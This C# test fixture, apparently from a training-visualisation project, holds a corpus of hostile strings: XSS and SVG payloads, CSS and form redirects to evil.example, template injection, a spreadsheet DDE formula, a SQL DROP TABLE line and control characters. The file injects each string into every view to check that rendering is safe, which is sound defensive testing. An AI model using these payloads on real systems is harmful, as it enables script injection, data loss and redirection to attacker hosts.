using Cppo.Evaluation;
using Cppo.Evaluation.Benchmarking;
using Cppo.Images;
using Cppo.Interactive.Figures;
using Cppo.Interactive.Rendering;
using Cppo.Interactive.Views;
using Cppo.Perturbations;
using Cppo.Rewards;
using Cppo.Rollouts;
using Cppo.Runtime;
using Cppo.Training;
using Cppo.Training.Runs;
using Cppo.Training.Watchdogs;

namespace Cppo.Interactive.Tests.Views;

/// <summary>Texts that want to be more than text, and views in which every text is one of them.</summary>
public static class Hostile
{
    public static IReadOnlyList<string> Corpus { get; } =
    [
        "</script><img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)><style>*{display:none}</style>",
        "\" onmouseover=\"alert(1)\" x=\"",
        "' style='background:url(//evil)' y='",
        "--v:1;background:url(javascript:alert(1))",
        "<!-- <![CDATA[ ]]> --> <?php &lt;b&gt; &#x3c;b&#x3e; &amp;amp;",
        "</section></div></table></details>",
        "{{constructor.constructor('alert(1)')()}} ${alert(1)} `x`",
        "javascript:alert(1)//",
        "\u202Egnp.exe \u2066x\u2069 \u200B\u200D\uFEFF \u061C",
        "\u001B[31mred\u001B[0m \a\b\0\u007F\u0085",
        "\r\n\t\v\f \u2028 \u2029",
        "\uD800 lone \uDC00",
        "\uFFFE\uFFFF \U000E0041\U000E007F \uE000",
        "=cmd|' /C calc'!A0",
        "</style><link rel=stylesheet href=//evil.example/x><base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
        "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe><object data=//evil.example><embed src=//evil.example>",
        "</text></svg><img src=x onerror=alert(1)><math><mtext><mglyph><style>",
        "</textarea></title></noscript></template><form action=//evil.example><button autofocus onfocus=alert(1)>",
        "../../<img src=x onerror=alert(1)>.png\0.exe",
        "'; DROP TABLE rollouts; --",
        "url(//evil.example/x.png)} .cppo{background:url(//evil.example/y.png)}",
        "𝕏 漢字 العربية עברית ß é e\u0301 👩‍🔬",
        "",
        "   ",
    ];

    /// <summary>Every kind of view with a text in every place that takes one.</summary>
    public static IReadOnlyList<View> Views(string text)
    {
        Picture picture = new(28, 28, new byte[28 * 28 * 3]);
        Sample sample = new(1, [picture, picture], text, text) { Kind = text, Level = 7, Reference = text };
        PerturbedView View(PerturbationEffect effect) => new(picture, text, effect, text, new(1, 2, 3)) { Title = text, Strength = text };
        TokenRecord Token(int id) => new(id, text, id % 2 == 0)
        {
            Entropy = 0.5,
            EntropyRemoved = 1.8 - id,
            LogProbability = -0.1,
            Cpl = 0.6,
            Selected = id == 1,
            InLoss = id == 1,
            IsPerception = true,
            Alternatives = [new(text, 0.9)],
            AlternativesRemoved = [new(text, 0.5)],
        };
        Grade grade = new(false, text, text, text, text, text);
        Reward reward = new([new(text, 1, 0.9), new("accuracy", 0, 0.1)], grade);
        Response response = new([1, 2, 3], [-0.1f, -0.1f, -0.1f], text, StopReason.Length);
        ResponseRecord Record(double advantage) => new(response, reward, advantage, [Token(1), Token(2), Token(3)]);
        GroupRecord group = new(
            new(sample, [1], [response, response]),
            [View(PerturbationEffect.Preserving), View(PerturbationEffect.Preserving)],
            [View(PerturbationEffect.Removing), View(PerturbationEffect.Removing)],
            [Record(1), Record(-1)])
        {
            Rule = text,
            Contrast = text,
        };
        StepReport step = new()
        {
            Step = 1,
            Method = text,
            Groups = [group],
            Terms = [new("policy", 1, -0.5, 0.2), new("CPL", 0.01, 0.5, 0.1), new(text, 1, 0.1, double.NaN)],
            Loss = -0.4,
            GradientNorm = 1,
            LearningRate = 1e-6,
            Skipped = text,
            Times = [new(text, 1), new("views", 2)],
        };
        TrainingHistory history = new(text, 4) { Elapsed = TimeSpan.FromSeconds(3) };
        history.Add(new StepMetrics { Step = 0, Skipped = text, Seconds = new Dictionary<string, double> { [text] = 1 } });
        history.Add(new AccuracyPoint(0, 1, 2));
        history.Add(new TrainingWarning(text, 0, text, text, 1));
        history.Add(new TrainingWarning(text, 0, text, text, 2));
        EvaluationReport report = new(text, [new(text, 1, 2)]) { Setting = text };
        EvaluationReport judged = EvaluationReport.Of(text, [new SampleOutcome(1, text, [new(true, text, true, 3, false), new(false, null, false, 4, true)])]);
        CppoException error = new(text, text, new InvalidOperationException(text));
        return
        [
            new RolloutView(Measured.WithoutTokens(group)),
            new GroupsView([Measured.WithoutTokens(group)]),
            new GroupsView([group]),
            new ResponsesView([group.Group]),
            new DrawnViewsView([group]),
            new PassesView([new(text, 1, 2, 0.1, -0.1)]),
            new ObjectiveView([new(text, 1, 0.5, double.NaN)]),
            new StripView(group),
            new TokenTableView(group.Responses[0]),
            new StepView(step),
            new LossSharesView([new("policy", 1, 1, 0, 0, 0, text, 1, 0.5), new(text, 1, 1, 0, 0, 1, text, -1, -0.5)]),
            new OptionsView(Method.Cppo with { Name = text, Sampling = new() { StopStrings = [text] } }),
            new CheckpointView(new(text, [new(text, 5, 1), new(text, 5, null)], [new(text, text, [1, 2], 2, 8, text)])),
            new CheckpointsView([new(1, text + "/none", null)]),
            new PicturesView([picture, picture]),
            new TrainView(history),
            new EvaluationView(report, report),
            new EvaluationView(judged, judged),
            new ComparisonView(Comparisons.Hostile(text, judged)),
            new DifferencesView(Comparisons.Hostile(text, judged).Differences),
            new DetectorStudyView([new(text, 1, [new(text, new(3, 0.5, 0.5, 0.5, 0.5))]), new(text, 1, [])]),
            new StoredRolloutsView([Comparisons.HostileRow(text)]),
            new CountView(text, 1, 2, TimeSpan.FromSeconds(1)),
            new ReportComparisonView(ReportComparison.Of(judged, judged)),
            new BenchmarkTableView(new(text, [.. Benchmarks.All.Take(2).Select((benchmark, i) => new BenchmarkResult(benchmark with { Title = text, Note = text }, i == 0 ? judged : null) { Problem = i == 0 ? null : text, Remark = text })])),
            new RunsView([new(text, text, RunState.Interrupted, 1, 4) { Warnings = [text] }]),
            new GalleryView(new(sample, [View(PerturbationEffect.Preserving), View(PerturbationEffect.Removing)])),
            new PerturbedPictureView([View(PerturbationEffect.Removing)]),
            new PictureView(picture),
            new TokensView(new(text, [new(1, text, false, 3), new(2, text, true, 0)])),
            new SamplesView([sample]),
            new DataView(DataFiles.Hostile(text).Select()),
            new DataView(DataFiles.Hostile(text)),
            new DoctorView(new([new(text, DoctorState.Note, text, text)])),
            new ErrorView(error),
            new FigureView(new Figure(text, text, text) { Finding = text }.Line(text, [(0, 1), (1, 2)]).Points(text, [(0, 2)])),
            new CallView(text, text),
            new GradeView([grade]),
            new GradeView([grade, new FairGrader().Grade(text, text + "1"), new ReferenceGrader().Grade(text, "1")]),
            .. HostileForeign.Views(text),
            Examples.All.First(example => example.View is SelectionView).View, // numbers alone, as in the next
            new SeenPictureView(ModelValues.Small),
            new GraderComparisonView(new([text, text + "2"], [new(new(text, text), [grade, grade with { Correct = true }], 2)])),
        ];
    }
}
